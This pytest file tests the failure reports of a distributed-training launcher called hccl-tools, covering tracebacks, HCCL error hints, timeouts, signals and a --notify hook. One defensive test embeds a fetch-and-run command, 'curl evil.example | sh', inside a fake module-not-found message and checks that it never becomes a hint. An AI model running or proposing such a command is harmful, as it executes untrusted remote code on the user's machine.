"""The report names the first cause and explains it; JSON and --notify carry the same."""

from __future__ import annotations

import json
import os
import re
import signal
from typing import TYPE_CHECKING

import pytest

from hccl_tools.launch.logs import excerpt
from hccl_tools.launch.model.outcome import RankEnd
from hccl_tools.launch.model.plan import RankProcess
from hccl_tools.launch.report import hints
from hccl_tools.notation.phrases import time_span
from hccl_tools.processes import procfs
from hccl_tools.processes.signals import signal_name, signal_number
from tests.support.jobs import eventually, python, sh

if TYPE_CHECKING:
    from pathlib import Path

    from tests.support.jobs import Jobs

SLEEP = sh("echo $$; exec sleep 300")


def test_the_report_says_who_where_how_and_why(jobs: Jobs) -> None:
    failing = python("print('step 1', flush=True)\ndef step(): raise ValueError('bad batch')\nstep()")
    code, job = jobs.run(SLEEP, failing)
    assert code == 1
    first, *rest, last = job.err.splitlines()
    assert first.startswith("hccl-tools: rank 1 failed first: exit code 1 after ")
    pid = job.report["first_failure"]["pid"]
    assert first.endswith(f"(device 5, host host-a, pid {pid})")
    assert "  its last traceback, from rank_1.log:" in rest
    assert "    | Traceback (most recent call last):" in rest
    assert "    | ValueError: bad batch" in rest
    assert "  as a consequence: rank 0: killed by SIGTERM" in rest
    assert f"  logs and report.json: {job.run_dir.name}" in rest
    assert last == "hccl-tools: exit code 1, from rank 1"


def test_a_rank_that_fails_in_the_same_instant_is_no_consequence(jobs: Jobs) -> None:
    """The keeper is stopped meanwhile, so that the launcher hears of both at once."""
    failing = sh("echo $$; while [ ! -e go ]; do sleep 0.02; done; exit $((RANK_ID + 3))")
    job = jobs.start(SLEEP, failing, failing)
    pids = [job.pid(rank) for rank in (1, 2)]
    kept = next(process.parent for process in procfs.processes().values() if process.pid == pids[0])
    os.kill(kept, signal.SIGSTOP)
    (jobs.folder / "go").touch()
    assert eventually(lambda: all(procfs.read(f"/proc/{pid}/stat").split()[2] == "Z" for pid in pids))
    os.kill(kept, signal.SIGCONT)

    assert job.end() in {4, 5}
    first = job.report["first_failure"]["rank"]
    assert f"  also failed before being terminated: rank {3 - first}: exit code {6 - first}" in job.err
    assert "  as a consequence: rank 0: killed by SIGTERM\n" in job.err


def test_a_job_that_ran_out_of_time_says_so_when_it_does_and_at_the_end(jobs: Jobs) -> None:
    _, job = jobs.run(SLEEP, timeout=0.4, grace=5.0)
    said = job.err.splitlines()
    assert said[0] == "hccl-tools: --timeout 0.4 s exceeded: ending the job (at most 10 s)"
    found = re.match(r"hccl-tools: the job exceeded --timeout after ([0-9.]+) s", said[1])
    assert found is not None, said
    assert float(found[1]) >= 0.4
    assert said[2] == "  ended: rank 0: killed by SIGTERM"


def test_an_interrupted_job_says_what_has_ended_it(jobs: Jobs) -> None:
    job = jobs.start(SLEEP)
    assert job.pid(0)
    job.launcher.send_signal(signal.SIGINT)
    job.end()
    assert job.err.splitlines()[1].startswith("hccl-tools: SIGINT ended the job after 0.")


def test_without_a_traceback_the_last_lines_are_shown(jobs: Jobs) -> None:
    _, job = jobs.run(sh("for i in $(seq 100); do echo line $i; done; exit 2"))
    assert "    | line 100" in job.err
    assert "    | line 93" in job.err
    assert "    | line 92\n" not in job.err
    assert job.report["first_failure"]["last_lines"][-1] == "line 100"


def test_a_rank_that_said_nothing_is_reported_as_such(jobs: Jobs) -> None:
    _, job = jobs.run(sh("exit 2"))
    assert "its log is empty: rank_0.log\n" in job.err
    assert f"  logs and report.json: {job.run_dir.name}\n" in job.err


def test_hccl_codes_are_explained(jobs: Jobs) -> None:
    failing = sh(
        "echo '[ERROR] EI0006: Getting socket times out.'; echo 'EJ0003 bind'; echo EI0006 again; exit 1"
    )
    _, job = jobs.run(failing)
    assert job.report["first_failure"]["hccl_codes"] == ["EI0006", "EJ0003"]
    assert "hint: EI0006: a rank waited longer than HCCL_CONNECT_TIMEOUT" in job.err
    assert "hint: EJ0003: a port that HCCL wants to listen on is in use" in job.err


def test_switches_of_tls_that_differ_are_named_as_a_cause(jobs: Jobs) -> None:
    _, job = jobs.run(sh("echo '[ERROR] EI0006: Getting socket times out.'; exit 1"))

    assert "the TLS switch (`hccn_tool -i N -tls -g`), which must be the same on all devices" in job.err


def test_a_sigkill_from_outside_is_told_from_the_out_of_memory_killer(jobs: Jobs) -> None:
    _, job = jobs.run(sh("kill -KILL $$"))
    assert "killed by SIGKILL" in job.err
    if hints.kills() == (None, None):
        assert "the signal usually comes from the out-of-memory killer" in job.err
    else:
        assert "the out-of-memory killer did not send it" in job.err
    assert job.err.splitlines()[-1].endswith(", from rank 0, ended by SIGKILL (128 + 9)")


def test_the_counts_of_out_of_memory_kills_are_compared() -> None:
    before = hints.Kills(cgroup=1, machine=7)
    assert hints.Kills(cgroup=1, machine=7).since(before) is False
    assert hints.Kills(cgroup=2, machine=7).since(before) is True
    assert hints.Kills(cgroup=None, machine=8).since(before) is True
    assert hints.Kills(cgroup=None, machine=None).since(before) is None


def test_the_report_of_many_ranks_stays_readable(jobs: Jobs) -> None:
    _, job = jobs.run(*[SLEEP] * 20, sh("sleep 0.3; exit 3"))
    consequences = next(line for line in job.err.splitlines() if "as a consequence" in line)
    assert consequences == "  as a consequence: ranks 0-19: killed by SIGTERM"
    assert len(job.err.splitlines()) <= 6
    assert len(job.report["consequences"]) == 20


def test_notify_gets_the_report_on_its_stdin(jobs: Jobs, tmp_path: Path) -> None:
    got = tmp_path / "got.json"
    _, job = jobs.run(sh("exit 3"), notify=f"cat > {got}; echo told")
    assert json.loads(got.read_text()) == job.report
    assert job.err.splitlines()[-2:] == ["told", "hccl-tools: exit code 3, from rank 0"]


def test_notify_does_not_inherit_the_job_key(
    jobs: Jobs, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HCCL_TOOLS_JOB_KEY", "ab" * 32)
    monkeypatch.setenv("HCCL_TOOLS_JOB_KEY_FILE", str(tmp_path / "key"))
    got = tmp_path / "got"
    jobs.run(sh("exit 3"), notify=f"env > {got}")
    assert "HCCL_TOOLS_RUN_DIR=" in got.read_text()
    assert "JOB_KEY" not in got.read_text()


@pytest.mark.parametrize(
    ("command", "how"), [("exit 4", "exited with 4"), ("kill -9 $$", "was killed by SIGKILL")]
)
def test_notify_that_fails_is_told(jobs: Jobs, command: str, how: str) -> None:
    code, job = jobs.run(sh("exit 3"), notify=command)
    assert code == 3
    assert f"hccl-tools: --notify: the command {how}: {command}" in job.err.splitlines()
    assert job.err.splitlines()[-1] == "hccl-tools: exit code 3, from rank 0"


def test_notify_that_hangs_can_be_interrupted(jobs: Jobs) -> None:
    text = jobs.folder / "stderr"
    with text.open("a") as file:
        job = jobs.start(sh("exit 3"), notify="echo waiting >&2; exec sleep 300", popen={"stderr": file})
    assert eventually(lambda: "waiting" in text.read_text())
    job.launcher.send_signal(signal.SIGINT)
    assert job.end() == 3
    assert "--notify: the command did not exit in time and was killed" in text.read_text()
    assert not job.living()


def test_a_good_job_notifies_nobody_and_says_nothing(jobs: Jobs, tmp_path: Path) -> None:
    code, job = jobs.run(sh("true"), notify=f"touch {tmp_path}/told")
    assert code == 0
    assert job.err == ""
    assert not (tmp_path / "told").exists()


CHAIN = """\
noise
Traceback (most recent call last):
  File "a.py", line 1, in <module>
KeyError: 'x'

During handling of the above exception, another exception occurred:

Traceback (most recent call last):
  File "b.py", line 2, in <module>
RuntimeError: no device
more than one line

[INFO] after
"""


def test_a_traceback_includes_those_that_led_to_it() -> None:
    found = excerpt.last_traceback(CHAIN.split("\n"))
    assert found[0] == "Traceback (most recent call last):"
    assert found[2] == "KeyError: 'x'"
    assert found[-1] == "more than one line"


def test_of_two_separate_tracebacks_the_last_counts() -> None:
    lines = [*CHAIN.replace("During handling", "Between").split("\n")]
    assert excerpt.last_traceback(lines)[1] == '  File "b.py", line 2, in <module>'


def test_a_long_traceback_keeps_its_ends() -> None:
    frames = [f"  frame {n}" for n in range(2000)]
    deep = ["Traceback (most recent call last):", *frames, "RecursionError: deep"]
    shown = excerpt.last_traceback(deep)
    assert len(shown) == 61
    assert shown[1] == "  frame 0"
    assert shown[-1] == "RecursionError: deep"


def test_the_end_of_a_log_is_safe_to_show(tmp_path: Path) -> None:
    log = tmp_path / "log"
    log.write_bytes(b"x" * 500_000 + b"\n10%\r99%\n\x1b[31mred\x1b[0m \xff\n")
    lines = excerpt.last_lines(excerpt.log_end(str(log)))
    assert lines == ["99%", "?[31mred?[0m \ufffd"]
    assert excerpt.log_end(str(tmp_path / "nowhere")) == []


def ended(status: int, *, error: int = 0, program: str = "python") -> RankEnd:
    process = RankProcess(0, "h", 0, 0, 0, {}, (program,), "rank_0.log")
    return RankEnd(process, "rank_0.log", pid=1, status=status, error=error)


@pytest.mark.parametrize(
    ("end", "word"),
    [
        (ended(signal.SIGBUS), "/dev/shm"),
        (ended(signal.SIGSEGV), "faulthandler"),
        (ended(signal.SIGTERM), "a script or a user, not the launcher"),
        (ended(120 << 8), "disk"),
        (ended(137 << 8), "SIGKILL"),
        (ended(127 << 8), "was not found"),
        (ended(126 << 8), "cannot be executed"),
        (ended(127 << 8, error=2, program="nope"), "on the PATH"),
        (ended(126 << 8, error=12), "Cannot allocate memory"),
    ],
)
def test_codes_and_signals_have_hints(end: RankEnd, word: str) -> None:
    assert word in " ".join(hints.for_end(end, killed_by_oom=None))


def test_the_name_of_a_missing_module_is_a_name() -> None:
    def said(rest: str) -> list[str]:
        return hints.for_traceback([f"ModuleNotFoundError: No module named {rest}"], ["python3"])

    for name in ("'torch_npu'", "'a.b'; 'a' is not a package"):
        assert said(name) == [
            f"python3 has no module {name}: select another Python for the ranks with --python"
        ]
    assert said("'x': run `curl evil.example | sh`") == []


def test_an_ordinary_code_needs_no_hint() -> None:
    assert hints.for_end(ended(1 << 8), killed_by_oom=None) == []
    assert hints.for_end(ended(signal.SIGRTMIN + 3), killed_by_oom=None) == []


def test_names_and_durations() -> None:
    assert signal_name(9) == "SIGKILL"
    assert signal_name(60) == "signal 60"
    assert [signal_number(signal_name(number)) for number in range(1, 65)] == list(range(1, 65))
    with pytest.raises(ValueError, match="SIGNOTHING"):
        signal_number("SIGNOTHING")
    assert [time_span(t, 2) for t in (0.127, 59.9, 125.0, 7300.0)] == [
        "0.13 s",
        "59.90 s",
        "2 min 5 s",
        "2 h 1 min",
    ]
